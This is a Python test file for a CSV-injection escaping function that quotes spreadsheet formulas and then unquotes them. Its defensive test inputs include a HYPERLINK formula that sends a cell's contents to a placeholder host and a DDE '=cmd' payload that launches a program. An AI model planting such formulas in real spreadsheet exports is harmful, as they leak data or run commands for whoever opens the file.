"""quotes.text.spreadsheet_safe: a text a spreadsheet would evaluate gets a leading ' (OWASP's
CSV-injection advice), and spreadsheet_original takes it off again."""

import datetime

import pytest

from quotes.text import spreadsheet_original, spreadsheet_safe

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    # starting with ' already: quoted again, so that taking one ' off gives the original back
    "'=1+1",
    "'Tis true",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_a_spreadsheet_would_evaluate_gets_a_leading_quote_and_comes_back(text):
    safe = spreadsheet_safe(text)

    assert safe == "'" + text
    assert spreadsheet_original(safe) == text


@pytest.mark.parametrize(
    "value", ["We want dialogue,", "", "a=b", -2, -1.5, 0, None, datetime.date(2021, 1, 1)]
)
def test_plain_text_numbers_and_dates_are_left_as_they_are(value):
    assert spreadsheet_safe(value) == value
    assert spreadsheet_original(value) == value
